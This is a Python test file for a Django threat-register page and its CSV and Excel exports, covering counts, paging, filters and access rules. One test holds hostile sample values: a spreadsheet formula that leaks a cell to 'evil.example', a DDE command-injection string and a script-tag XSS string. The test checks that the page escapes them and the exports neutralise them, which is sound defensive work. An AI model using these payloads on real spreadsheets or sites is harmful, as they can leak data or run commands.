"""The register page and the spreadsheet downloads through Django's test client, against the sandbox in both TMI
generations. Counts come from the sandbox's state (tests/portfolio/register_expect.py), never from the code."""

from __future__ import annotations

import csv
import functools
import io
import re
from datetime import date
from urllib.parse import urljoin

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from portal.dashboard import register_views
from portal.portfolio import register
from portal.portfolio.vocabulary import term_key
from tests.dashboard.conftest import Elements, find_model, readable_models, sign_in
from tests.portfolio.register_expect import expected_by_severity, expected_ids

pytestmark = pytest.mark.django_db(transaction=True)

PAYMENTS = "Customer Payments API"


def url(name: str, *args) -> str:
    return reverse(f"dashboard:{name}", args=["acme", *args])


def _row_ids(html: str) -> list[str]:
    return re.findall(r'#threat-([0-9a-f-]{36})">', html)


def test_the_register_page_counts_and_links_every_open_threat(client, alice, sandbox):
    expected = expected_ids(sandbox, "alice", now=timezone.now())
    response = client.get(url("threats"))
    assert response.status_code == 200
    html = response.content.decode()
    assert f"{len(expected)} open threats match." in html
    assert f'href="{url("threats")}" aria-current="page"' in html  # the site navigation
    ids = _row_ids(html)
    assert set(ids) <= expected and len(ids) == min(len(expected), register.PAGE_SIZE)
    # The row's link lands on the threat's row of its model's page.
    model_id = next(m["id"] for m in readable_models(sandbox, "alice") for t in m["threats"] if t["id"] == ids[0])
    assert f"{url('threat_model', model_id)}#threat-{ids[0]}" in html
    target = client.get(url("threat_model", model_id)).content.decode()
    assert f'id="threat-{ids[0]}"' in target
    # Each severity's count links to the register narrowed to it, and says the same number.
    counts = expected_by_severity(sandbox, "alice", expected)
    for key, n in counts.items():
        label = register.severity_label(key)
        assert f'href="?severity={key}">{label}: {n}</a>' in html


def test_pages_together_hold_the_count_and_keep_the_filters(client, alice, sandbox, monkeypatch):
    monkeypatch.setattr(
        register_views, "threat_register_get", functools.partial(register.threat_register_get, page_size=4)
    )
    query = {"state": "all", "sort": "name"}
    expected = expected_ids(sandbox, "alice", now=timezone.now(), state="all")
    html = client.get(url("threats"), query).content.decode()
    assert f"{len(expected)} threats match, open or not." in html
    seen, pages, next_url = [], 0, url("threats") + "?state=all&sort=name"
    while next_url:
        html = client.get(next_url).content.decode()
        pages += 1
        seen += _row_ids(html)
        found = re.search(r'rel="next" href="([^"]+)"', html)
        next_url = urljoin(url("threats"), found.group(1).replace("&amp;", "&")) if found else None
        if found:
            assert "state=all" in found.group(1) and "sort=name" in found.group(1)
    assert pages == -(-len(expected) // 4) and len(seen) == len(set(seen)) == len(expected) and set(seen) == expected
    assert f"Page {pages} of {pages}" in html


def test_filters_show_as_chips_and_invalid_values_as_notes(client, alice, sandbox):
    payments = find_model(sandbox, PAYMENTS)["id"]
    response = client.get(url("threats"), {"severity": ["high", "nonsense"], "model": payments, "older_than": "abc"})
    assert response.status_code == 200
    html = response.content.decode()
    expected = expected_ids(sandbox, "alice", now=timezone.now(), severities=("high",), models=(payments,))
    assert re.search(rf"{len(expected)} open threats? match", html)
    assert "Unknown severity “nonsense” ignored." in html and "“abc” is not a number of days" in html
    assert f'href="?model={payments}">Severity: High' in html  # removing the severity keeps the model
    assert f'href="?severity=high">Threat model: {PAYMENTS}' in html
    csv_link = f'{url("threats_csv")}?severity=high&amp;model={payments}"'
    assert csv_link in html and f'{url("threats_xlsx")}?severity=high&amp;model={payments}"' in html
    assert '<input type="checkbox" name="severity" value="high" checked>' in html


def test_hostile_threat_names_are_escaped_on_the_page_and_neutralised_in_spreadsheets(
    client, alice, sandbox, organization
):
    payments = find_model(sandbox, PAYMENTS)["id"]
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    script = "<script>alert('register')</script>"
    # Written straight into TMI's store (1.8 refuses <>"'& in names over its API; 0.217 and older data do not).
    tm = find_model(sandbox, PAYMENTS)
    for threat, name, mitigation in zip(
        tm["threats"], (formula, script), ("@SUM(1+1)", "+cmd|' /C calc'!A0"), strict=False
    ):
        threat.update(name=name, mitigation=mitigation, severity="critical", mitigated=False, status="identified")
    html = client.get(url("threats"), {"q": "alert", "model": payments}).content.decode()
    assert "&lt;script&gt;alert(&#x27;register&#x27;)&lt;/script&gt;" in html
    assert not [t for t, _ in Elements(html).tags if t == "script"]

    text = client.get(url("threats_csv"), {"model": payments, "severity": "critical"}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = {cell for row in rows for cell in row}
    assert "'" + formula in cells and "'@SUM(1+1)" in cells and "'+cmd|' /C calc'!A0" in cells
    assert script in cells  # text, not a formula: kept as written
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]

    data = client.get(url("threats_xlsx"), {"model": payments, "severity": "critical"}).content
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["Threats"]
    values = [cell for row in sheet.iter_rows() for cell in row]
    hostile = [c for c in values if c.value == formula]
    assert hostile and all(c.data_type == "s" for c in hostile)
    assert not [c for c in values if c.data_type == "f"]  # no formula anywhere in the file


def test_downloads_hold_every_match_with_a_dated_file_name(client, alice, sandbox):
    expected = expected_ids(sandbox, "alice", now=timezone.now(), severities=("critical", "high"))
    response = client.get(url("threats_csv"), {"severity": ["critical", "high"]})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    today = date.today()
    assert response["Content-Disposition"] == f'attachment; filename="acme-threats-{today:%Y-%m-%d}.csv"'
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {r["Threat ID"] for r in rows} == expected and len(rows) == len(expected)
    assert all(r["Link"].endswith("#threat-" + r["Threat ID"]) for r in rows)

    response = client.get(url("threats_xlsx"), {"severity": ["critical", "high"]})
    assert response["Content-Disposition"] == f'attachment; filename="acme-threats-{today:%Y-%m-%d}.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Summary", "Threats", "Threat models"]
    sheet = book["Threats"]
    assert sheet.max_row - 1 == len(expected)


def test_the_model_list_downloads_carry_its_filters(client, alice, sandbox):
    html = client.get(url("threat_models"), {"q": "bank", "sort": "name"}).content.decode()
    assert f'href="{url("threat_models_csv")}?q=bank&amp;sort=name"' in html
    assert f'href="{url("threat_models_xlsx")}?q=bank&amp;sort=name"' in html
    expected = sorted(
        (tm["name"] for tm in readable_models(sandbox, "alice") if "bank" in tm["name"].lower()), key=str.lower
    )
    rows = list(
        csv.DictReader(io.StringIO(client.get(url("threat_models_csv"), {"q": "bank"}).content.decode("utf-8-sig")))
    )
    assert sorted(r["Threat model"] for r in rows) == sorted(expected)
    status = term_key(readable_models(sandbox, "alice")[0]["status"])
    book = openpyxl.load_workbook(
        io.BytesIO(client.get(url("threat_models_xlsx"), {"status": status, "sort": "name"}).content)
    )
    names = [row[0] for row in book["Threat models"].iter_rows(min_row=2, values_only=True)]
    want = [tm["name"] for tm in readable_models(sandbox, "alice") if term_key(tm["status"]) == status]
    assert names == sorted(want, key=str.lower)


def test_other_organisations_and_strangers_get_nothing(client, alice, other_organization, django_user_model):
    for name in ("threats", "threats_csv", "threats_xlsx", "threat_models_csv", "threat_models_xlsx"):
        foreign = reverse(f"dashboard:{name}", args=["globex"])
        assert client.get(foreign).status_code == 404  # alice is no member of Globex
    client.logout()
    response = client.get(url("threats_csv"))
    assert response.status_code == 302 and "/login/" in response["Location"]  # anonymous: sign in first
    stranger = django_user_model.objects.create(username="mallory")
    sign_in(client, stranger)
    assert client.get(url("threats")).status_code == 404


def test_a_shared_link_keeps_filters_that_match_nothing_now(client, alice, sandbox):
    """A status, type or priority no threat holds (any more) matches nothing, and the form keeps it chosen."""
    html = client.get(url("threats"), {"status": "Under Review", "type": "Quantum", "priority": "P9"}).content.decode()
    assert "0 open threats match." in html and "No threats match" in html
    for value in ("under_review", "Quantum", "p9"):
        assert f'<option value="{value}" selected>' in html
    assert 'href="?type=Quantum&amp;priority=p9">Status: Under review' in html


def test_control_characters_in_the_query_are_never_a_server_error(client, alice, sandbox):
    """PostgreSQL refuses a NUL in a query: every free-text parameter is cleaned first."""
    nul = "\x00"
    for name in ("threats", "threats_csv", "threats_xlsx"):
        query = {k: f"a{nul}b" for k in ("q", "status", "type", "priority", "model_status", "severity", "model")}
        assert client.get(url(name), query).status_code == 200, name
    for name in ("threat_models", "threat_models_csv", "threat_models_xlsx"):
        assert client.get(url(name), {"q": f"bank{nul}", "status": nul}).status_code == 200, name
